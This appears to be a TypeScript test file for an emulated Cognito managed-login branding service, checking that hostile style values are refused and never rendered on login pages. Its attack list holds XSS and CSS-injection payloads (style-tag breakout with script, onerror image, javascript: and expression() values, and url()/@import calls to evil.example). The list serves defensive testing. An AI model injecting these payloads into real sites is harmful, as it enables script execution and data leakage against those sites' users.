import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { LoginBranding } from '../../src/domain/login-branding.ts'
import { openClient } from '../../src/flows/open-client.ts'
import { openLook } from '../../src/flows/open-look.ts'
import { brandingAssetReply, brandingSheetReply } from '../../src/pages/branding-assets.ts'
import { createHarness, type Harness } from '../support/harness.ts'
import { makeClient, makePool } from '../support/make-pool.ts'
import { pageContext } from '../support/page-context.ts'
import { settingsWith } from '../support/style-of.ts'

let server: Harness
let UserPoolId: string

beforeAll(async () => {
  server = await createHarness()
  ;({ UserPoolId } = await makePool(server))
  await server.ok('CreateUserPoolDomain', { UserPoolId, Domain: 'hostile' })
})
afterAll(() => server.close())

const attacks = [
  '</style><script>alert(1)</script>',
  'red;} body{display:none',
  'url(javascript:alert(1))',
  'url(https://evil.example/?leak)',
  '@import "https://evil.example/x.css"',
  'expression(alert(1))',
  '\\75 rl(https://evil.example)',
  'red/**/;x:y',
  '"><img src=x onerror=alert(1)>',
  'var(--x)',
]
const by = () => ({ actor: 'test', requestId: 'r', action: 'a', at: server.clock.now() })

describe('must-not-happen 40: what an operator uploads for the pages', () => {
  it.each(attacks)('is refused with %s in it', async (attack) => {
    const { ClientId } = await makeClient(server, UserPoolId)
    const Settings = settingsWith({ 'components.form.lightMode.backgroundColor': attack })
    expect((await server.refused('CreateManagedLoginBranding', { UserPoolId, ClientId, Settings }))[0]).toBe('InvalidParameterException')
    const CSS = `.label-customizable { color: ${attack}; }`
    expect((await server.refused('SetUICustomization', { UserPoolId, ClientId, CSS }))[0]).toBe('InvalidParameterException')
  })

  it.each(attacks)('does not reach a page even if %s was stored', async (attack) => {
    const { ClientId } = await makeClient(server, UserPoolId)
    const ctx = pageContext(server)
    const opened = await openClient(ctx, ClientId)
    const { client, pool } = opened
    const style: LoginBranding = {
      ...{ poolUid: pool.uid, clientUid: client.uid, version: 1, UserPoolId, ManagedLoginBrandingId: server.random.uuid() },
      UseCognitoProvidedValues: false,
      Settings: settingsWith({
        'components.form': { borderRadius: attack, logo: { enabled: attack, location: attack }, lightMode: { backgroundColor: attack } },
        'categories.global': { colorSchemeMode: attack, spacingDensity: attack, pageHeader: { enabled: attack } },
        'categories.auth.authMethodOrder': attack,
        'components.favicon.enabledTypes': attack,
      }),
      ...{ CreationDate: 1, LastModifiedDate: 1, images: [] },
    }
    await server.store.brandings.create(by(), style, [], 20)
    const css = `.label-customizable { color: ${attack}; }`
    const look = { poolUid: pool.uid, holder: client.uid, css, createdAt: 1, modifiedAt: 1 }
    await server.store.uiCustomizations.put(by(), look, new TextEncoder().encode(attack))
    for (const version of [1, 2] as const) {
      const seen = await openLook(ctx, opened, version)
      const sheet = await brandingSheetReply(ctx, ClientId, new URL(seen.sheetUrl ?? '', 'http://x').searchParams.get('v') ?? '')
      expect(sheet.status).toBe(200)
      expect(sheet.body).toBe(version === 1 ? '' : ':root{}\n:root[data-mode="light"]{}\n')
      expect(JSON.stringify(seen)).not.toContain(JSON.stringify(attack).slice(1, -1))
    }
    // Bytes that are no image are not served as one.
    expect((await brandingAssetReply(ctx, ClientId, 'logo', undefined)).status).toBe(404)
  })
})
